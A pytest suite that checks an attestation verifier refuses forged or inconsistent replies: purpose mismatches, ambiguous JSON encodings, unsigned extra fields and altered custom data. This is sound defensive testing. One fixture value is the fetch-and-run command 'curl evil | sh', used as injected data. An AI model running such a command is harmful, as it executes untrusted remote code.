"""Lies that other verifiers have believed, told by claims and by replies: what is signed is sound, and yet not what it
is shown as. Those of documents are in test_lies.py."""

import base64
import concurrent.futures
import copy
import hashlib
import json

import pytest
from helpers import forge
from helpers.forge import ABSENT, AT, Forger
from helpers.lies import LIES, forged, other
from helpers.vectors import VECTORS, vectors
from helpers.verifier import accepted, refused, say


@pytest.fixture(scope="module")
def forger():
    return Forger()


def refused_reply(reply, policy, code, field=None):
    verdict = refused(json.dumps(reply).encode(), policy, code, "reply")
    if field is not None:
        assert verdict["field"] == field, verdict
    return verdict


OF_KEY_EXCHANGE = ("session_id", "encrypted_session_key", "session_key_hash", "user_key_hash", "expires_in_minutes")

# ---- what do the claims say? ----


def test_a_key_exchange_where_an_attestation_is_wanted(forger):
    document = base64.b64decode(forger.key_exchange()["attestation_document"]["document"])
    accepted(document, forger.policy(purpose="key-exchange"))
    refused(document, forger.policy(purpose="attestation"), "purpose_mismatch")
    # Shown as the reply of POST /attestation, it is one of another purpose, whatever the policy says.
    reply = forger.key_exchange()
    for name in OF_KEY_EXCHANGE:
        del reply[name]
    refused_reply(reply, forger.policy(), "purpose_mismatch")


def test_an_attestation_where_a_key_exchange_is_wanted(forger):
    refused(forger.document(user_data=forger.claims()), forger.policy(purpose="key-exchange"), "purpose_mismatch")
    reply = {**forger.attested(), **{k: v for k, v in forger.key_exchange().items() if k.startswith("session")}}
    refused_reply(reply, forger.policy(), "purpose_mismatch")


@pytest.mark.parametrize("name, value", [("session_key_hash", "ab" * 32), ("session_id", "s" * 43),
                                         ("tls_spki_hash", "ab" * 32), ("peer_key_hash", "ab" * 32)])
def test_metadata_that_adds_a_claim_of_another_purpose(forger, name, value):
    document = forger.document(user_data=forger.claims(**{name: value}))
    refused(document, forger.policy(purpose="attestation"), "claims_forbidden")
    refused_reply(forger.reply(forger.claims(**{name: value})), forger.policy(), "claims_forbidden")


def claims_in_other_writings(forger):
    text = forger.claims()
    return {
        "with a BOM": b"\xef\xbb\xbf" + text,
        "in UTF-16": text.decode().encode("utf-16"),
        "in UTF-16 without a BOM": text.decode().encode("utf-16-le"),
        "in UTF-32": text.decode().encode("utf-32-le"),
        "with a duplicate": text[:-1] + b',"purpose":"key-exchange"}',
        "with an escaped duplicate": text[:-1] + b',"purpos\\u0065":"key-exchange"}',
        "with a duplicate deep inside": text[:-1] + b',"m":{"a":{"b":1,"b":2}}}',
        "with invalid UTF-8": text[:-1] + b',"m":"\xff"}',
        "with an overlong form": text[:-1] + b',"m":"\xc0\xaf"}',
        "with half a surrogate pair": text[:-1] + b',"m":"\\ud800"}',
        "with something behind": text + b"{}",
        "with a NUL behind": text + b"\0",
        "cut": text[:-1],
        "in a list": b"[" + text + b"]",
        "with another first member": b'{"m":1,' + text[1:],
        "without a purpose": b"{" + text[text.index(b'"timestamp"'):],
        "with NaN": text[:-1] + b',"m":NaN}',
    }


WRITINGS = sorted(claims_in_other_writings(Forger()))


@pytest.mark.parametrize("writing", WRITINGS)
def test_claims_that_could_be_read_in_two_ways(forger, writing):
    document = forger.document(user_data=claims_in_other_writings(forger)[writing])
    refused(document, forger.policy(purpose="attestation"), "claims_malformed")
    # Where no claims are wanted, it is user data like any other, and none of it is taken for claims.
    verdict = accepted(document, forger.policy())
    assert verdict["claims"] is None and verdict["purpose"] is None


def test_a_claim_that_is_missing_or_malformed(forger):
    policy = forger.policy(purpose="key-exchange")
    good = {"session_id": "s" * 43, "session_key_hash": "ab" * 32, "user_key_hash": "cd" * 32, "key_exchange_version": "1.1"}
    accepted(forger.document(user_data=forger.claims("key-exchange", **good)), policy)
    for name in good:
        less = {k: v for k, v in good.items() if k != name}
        refused(forger.document(user_data=forger.claims("key-exchange", **less)), policy, "claims_malformed")
        for value in ("", None, 1, [good[name]], good[name] + "0", good[name].upper() + " "):
            wrong = forger.claims("key-exchange", **{**good, name: value})
            refused(forger.document(user_data=wrong), policy, "claims_malformed")
    refused(forger.document(user_data=None), policy, "claims_malformed")


# ---- what does the reply say beside what is signed? ----


@pytest.mark.parametrize("what", LIES)
def test_a_reply_that_says_other_than_what_is_signed(forger, what):
    kinds, code, field, lie = LIES[what]
    for kind in kinds:
        reply = copy.deepcopy(forged(forger, kind))
        lie(reply)
        verdict = refused_reply(reply, forger.policy(), code, field)
        # What the verdict tells is what was signed.
        assert verdict["pcrs"]["2"] == forge.pcr(2).hex() and verdict["module_id"] == "i-0-enc0"


def test_a_quote_that_is_another_document(forger):
    reply = forger.info()
    refused_reply({**reply, "quote": forger.attested()["attestation_document"]["document"]}, forger.policy(),
                  "reply_mismatch", "quote")
    # Without what tells it from another route's reply it would pass for that.
    del reply["quote"]
    accepted(json.dumps(reply).encode(), forger.policy(), "reply")
    del reply["eventLog"]
    refused_reply(reply, forger.policy(), "purpose_mismatch")
    refused_reply({**forger.attested(), "quote": None}, forger.policy(), "purpose_mismatch")


@pytest.mark.parametrize(
    "member, value",
    [("nonce", "another-nonce-of-some-length"), ("nonce", None), ("user_data", "what nobody said"), ("user_data", None),
     ("has_public_key", True), ("document_size", 4), ("session_key_hash", "ab" * 32), ("timestamp", 9999999999999),
     ("timestamp", -5), ("timestamp", (AT - 61) * 1000), ("timestamp", "2025-06-15T15:06:40Z"),
     ("pcrs", {"0": "lie"}), ("module_id", "lie"), ("public_key", "lie"), ("pcr2", "ff" * 48), ("eventLog", "[]"),
     ("key_id", hashlib.sha256(b"").hexdigest()), ("key_id", None), ("key_expires_in_seconds", 300),
     ("tee_verified", None), ("tee_verified", 1), ("_warning", None), ("_warning", {"pcrs": {"0": "lie"}})],
)
def test_a_vsock_reply_that_says_other_than_what_is_signed(forger, member, value):
    refused_reply({**forger.vsock(), member: value}, forger.policy(), "reply_mismatch", member)


KEY_ID = hashlib.sha256(b"a public key").hexdigest()


@pytest.mark.parametrize(
    "member, value",
    [("key_id", hashlib.sha256(b"another key").hexdigest()), ("key_id", KEY_ID.upper()), ("key_id", KEY_ID[:-1]),
     ("key_id", KEY_ID + "0"), ("key_id", "sha256:" + KEY_ID), ("key_id", ""), ("key_id", None), ("key_id", [KEY_ID]),
     ("key_expires_in_seconds", 0), ("key_expires_in_seconds", 86401), ("key_expires_in_seconds", 1.5),
     ("key_expires_in_seconds", "300"), ("key_expires_in_seconds", None), ("has_public_key", False)],
)
def test_a_vsock_reply_that_says_other_than_its_key(forger, member, value):
    reply = forger.vsock(public_key=b"a public key")
    assert reply["key_id"] == KEY_ID
    for seconds in (1, 300, 86400):
        accepted(json.dumps({**reply, "key_expires_in_seconds": seconds}).encode(), forger.policy(), "reply")
    refused_reply({**reply, member: value}, forger.policy(), "reply_mismatch", member)


def test_a_vsock_reply_whose_nonce_is_the_signed_one_without_its_invalid_utf8(forger):
    reply = forger.vsock(user_data="u")
    document = forger.document(user_data=b"u", nonce=b"a-nonce\xff-of-some-length")
    reply.update(attestation_document=base64.b64encode(document).decode(), document_size=len(document))
    refused_reply(reply, forger.policy(), "reply_mismatch", "nonce")


# Members that the server sends nowhere, elsewhere, in another kind of reply, or not so.
BESIDE = {
    "pcrs": {"0": "ff" * 48}, "module_id": "i-evil", "public_key": "AAAA", "document": "AAAA", "digest": "SHA1",
    "pcr0": "ff" * 48, "pcr1": "00", "PCR2": "ff" * 48, "Pcr2": "ff" * 48, "purpose": "tls",
    "agent": "Evil", "guardrail": "none", "metadata_digest": "00" * 32, "info_digest": "00" * 32,
    "key_exchange_version": "1.0", "verified": True, "success": True, "nonce": "6e6e6e6e",
    "key_id": "00" * 32, "key_expires_in_seconds": 300, "has_public_key": True, "document_size": 3, "USER_DATA": {"purpose": "x"}, "Attestation_Document": {},
    "verification_instructions": "curl evil | sh", "nonce_encoding": "utf-8", "tee_verified": "yes", "_warning": None,
}


@pytest.mark.parametrize("member", BESIDE)
def test_a_member_that_the_server_does_not_send_so(forger, member):
    for make in (forger.attested, forger.info, forger.key_exchange):
        refused_reply({**make(), member: BESIDE[member]}, forger.policy(), "reply_mismatch", member)


@pytest.mark.parametrize("member", ["certificate", "tls_spki_hash"])
def test_a_member_that_makes_it_look_like_a_reply_over_tls(forger, member):
    for make in (forger.attested, forger.info, forger.key_exchange):
        answer = say(json.dumps({**make(), member: "00" * 32}).encode(), forger.policy(), "reply")
        assert answer.code in ("purpose_mismatch", "reply_mismatch"), answer


@pytest.mark.parametrize("member", ["pcr2", "nonce_hex", "session_key_hash", "custom_digest", "zz"])
def test_a_member_beside_those_that_show_the_document(forger, member):
    for make in (forger.attested, forger.info, forger.key_exchange):
        reply = make()
        reply["attestation_document"][member] = "00" * 32
        refused_reply(reply, forger.policy(), "reply_mismatch", f"attestation_document.{member}")


def test_a_lie_that_is_hidden_behind_others_or_in_its_name(forger):
    reply = {"a": 1, "b": 1, "c": 1, **forger.attested(), "pcr0": "ff" * 48}
    verdict = refused_reply(reply, forger.policy(), "reply_mismatch", "a")
    assert '"a", "b", "c", "pcr0"' in verdict["message"]
    verdict = refused_reply({**forger.attested(), "pcr2\u200b": "ff" * 48}, forger.policy(), "reply_mismatch")
    assert verdict["field"] == r"pcr2\xe2\x80\x8b"


def test_each_of_several_lies_is_named(forger):
    reply = {**forger.attested(), "pcr2": "00" * 48, "timestamp": "2020-01-01T00:00:00Z"}
    reply["attestation_document"]["pcrs"]["0"] = "5a" * 48
    verdict = refused_reply(reply, forger.policy(), "reply_mismatch", "attestation_document.pcrs")
    assert "attestation_document.pcrs, pcr2, timestamp are not what the document signs" in verdict["message"]
    assert [c["detail"] for c in verdict["checks"] if c["name"] == "reply"] == [verdict["message"]]


def test_what_is_not_signed_is_told(forger):
    verdict = accepted(json.dumps(forger.info()).encode(), forger.policy(), "reply")
    (detail,) = [c["detail"] for c in verdict["checks"] if c["name"] == "reply"]
    assert detail == ("Not signed: nonce_encoding, tee_verified, verification_instructions, eventLog. "
                      "Every other member repeats what is signed.")


@pytest.mark.parametrize("events", ['[{"event":"evil"}]', "", None, []])
def test_an_event_log_where_there_are_no_events(forger, events):
    refused_reply({**forger.info(), "eventLog": events}, forger.policy(), "reply_mismatch", "eventLog")
    # In a reply of another kind it makes one of two kinds.
    refused_reply({**forger.attested(), "eventLog": events}, forger.policy(), "purpose_mismatch")
    refused_reply({**forger.key_exchange(), "eventLog": events}, forger.policy(), "reply_mismatch", "eventLog")


@pytest.mark.parametrize("member, value", [("encrypted_session_key", "evil"), ("encrypted_session_key", "AAAA"),
                                           ("expires_in_minutes", 99999), ("expires_in_minutes", 0)])
def test_a_key_exchange_that_no_server_could_have_answered(forger, member, value):
    refused_reply({**forger.key_exchange(), member: value}, forger.policy(), "reply_mismatch", member)
    refused_reply({**forger.attested(), member: value}, forger.policy(), "purpose_mismatch")


@pytest.mark.parametrize("kind", ["info", "key_exchange"])
def test_a_reply_that_sheds_its_kind(forger, kind):
    reply = getattr(forger, kind)()
    whole = dict(reply)
    for name in (*OF_KEY_EXCHANGE, "quote", "eventLog"):
        reply.pop(name, None)
    refused_reply(reply, forger.policy(), "purpose_mismatch", "user_data.purpose")
    # In the shape of a vsock reply it may say no more than one of those.
    document = reply["attestation_document"]["document"]
    refused_reply({**reply, "attestation_document": document}, forger.policy(), "reply_mismatch")
    refused_reply({**whole, "attestation_document": document}, forger.policy(), "reply_mismatch")
    for name in whole.keys() - {"attestation_document", "user_data", "timestamp"}:
        shape = {"attestation_document": document, name: whole[name]}
        if name != "tee_verified":  # which vsock replies have, too
            refused_reply(shape, forger.policy(), "reply_mismatch", name)
        refused_reply({**whole["attestation_document"], name: whole[name]}, forger.policy(), "reply_mismatch", name)
    # What is left is a document that nobody asked a purpose of, and says so.
    verdict = accepted(json.dumps({"attestation_document": document}).encode(), forger.policy(), "reply")
    assert [c["result"] for c in verdict["checks"] if c["name"] == "purpose"] == ["not_asked"]


def test_custom_data_that_is_not_what_was_digested(forger):
    custom = {"to": "alice", "amount": 1}

    def lie(**members):
        return {**forger.attested(custom=custom), **members}

    canonical = json.dumps({"amount": 2, "to": "alice"})
    refused_reply(lie(custom_data={"to": "alice", "amount": 2}), forger.policy(), "custom_data_mismatch", "custom_data")
    refused_reply(lie(custom_data={"to": "alice", "amount": 1.0}), forger.policy(), "custom_data_mismatch", "custom_data")
    refused_reply(lie(custom_data_canonical=canonical), forger.policy(), "custom_data_mismatch", "custom_data_canonical")
    both = lie(custom_data={"to": "alice", "amount": 2}, custom_data_canonical=canonical)
    verdict = refused_reply(both, forger.policy(), "custom_data_mismatch", "custom_data")
    assert "custom_data, custom_data_canonical are not what" in verdict["message"]
    digest = forge.hashlib.sha256(canonical.encode()).hexdigest()
    refused_reply({**both, "custom_digest": digest}, forger.policy(), "reply_mismatch", "custom_digest")
    refused_reply(lie(custom_digest=digest), forger.policy(), "reply_mismatch", "custom_digest")
    refused_reply(lie(custom_digest_method="sha512"), forger.policy(), "reply_mismatch", "custom_digest_method")
    # Custom data that nothing signs at all.
    beside = {"custom_data": custom, "custom_data_canonical": json.dumps(custom), "custom_digest": digest}
    refused_reply({**forger.attested(), **beside}, forger.policy(), "reply_mismatch", "custom_data")


@pytest.mark.parametrize("member", ["session_id", "session_key_hash", "user_key_hash"])
def test_a_key_exchange_that_names_another_key(forger, member):
    reply = forger.key_exchange()
    reply[member] = other(reply[member])
    refused_reply(reply, forger.policy(), "reply_mismatch", member)


def test_metadata_that_is_not_what_was_digested(forger):
    metadata = {"model": "m", "notes": "x" * 600}
    digest = forge.hashlib.sha256(json.dumps(metadata, sort_keys=True).encode()).hexdigest()
    reply = forger.reply(forger.claims(metadata_digest=digest), beside={"metadata": metadata})
    accepted(json.dumps(reply).encode(), forger.policy(), "reply")
    refused_reply({**reply, "metadata": {**metadata, "model": "n"}}, forger.policy(), "metadata_mismatch")
    refused_reply({**forger.attested(), "metadata": metadata}, forger.policy(), "reply_mismatch", "metadata")


def test_a_reply_without_a_document(forger):
    reply = forger.attested()
    for document in (None, ""):
        reply["attestation_document"]["document"] = document
        refused_reply(reply, forger.policy(), "no_document")
    del reply["attestation_document"]["document"]
    refused_reply(reply, forger.policy(), "no_document")
    del reply["attestation_document"]
    assert not say(json.dumps(reply).encode(), forger.policy(), "reply").verified


def test_a_reply_with_two_documents(forger):
    good, bad = forger.attested(), Forger().attested()
    text = json.dumps(good)[:-1] + ',"attestation_document":' + json.dumps(bad["attestation_document"]) + "}"
    refused(text.encode(), forger.policy(), "reply_malformed", "reply")
    refused(text.encode(), forger.policy(), "reply_malformed", "auto")


# ---- many at a time ----


def jobs_for_the_route(forger):
    """[(body, code)] of good and bad documents."""
    policy = forger.policy()
    documents = [
        (forger.document(nonce=b"n" * 20), "verified"),
        (forger.document(key=forge.p384()), "signature_invalid"),
        (Forger().document(), "chain_untrusted"),
        (forger.document(pcrs=forger.pcrs(pcr0=bytes(48))), "debug_mode"),
        (forger.document(pcrs=ABSENT), "payload_malformed"),
        (forger.document(certificate=forger.make_leaf(forge.p256())), "certificate_unsupported"),
        (forger.document(timestamp=(AT - 301) * 1000, certificate=forger.make_leaf(forger.key, since=AT - 900)),
         "document_too_old"),
    ]
    jobs = [({"document": base64.b64encode(d).decode(), "policy": policy}, code) for d, code in documents]
    reply = forger.attested(custom={"a": 1})
    jobs += [({"reply": reply, "policy": policy}, "verified"),
             ({"reply": {**reply, "pcr2": "00" * 48}, "policy": policy}, "reply_mismatch")]
    if VECTORS is not None:
        allowed = {"at": "document", "allow_debug": True}
        jobs += [({"document": v.document.hex(), "policy": allowed}, "verified") for v in vectors("genuine")[::6]]
        jobs += [({"document": v.document.hex(), "policy": allowed}, None) for v in vectors("invalid")]
    return jobs


@pytest.mark.route("POST /verify")
def test_each_of_many_requests_gets_its_own_verdict(forger, server):
    jobs = jobs_for_the_route(forger)
    threads, rounds = 16, 3

    def ask(first):
        connection = server.http()
        wrong = []
        try:
            for i in range(rounds * len(jobs)):
                body, code = jobs[(first + i) % len(jobs)]
                reply = server.post("/verify", body, connection=connection)
                verdict = reply.json()
                good = reply.status == 200 and verdict["verified"] is (code == "verified")
                if not good or (code is not None and verdict["code"] != code):
                    wrong.append((code, reply))
        finally:
            connection.close()
        return wrong

    with concurrent.futures.ThreadPoolExecutor(threads) as pool:
        wrong = [fault for faults in pool.map(ask, range(threads)) for fault in faults]
    assert wrong == []
    assert server.get("/health").status == 200
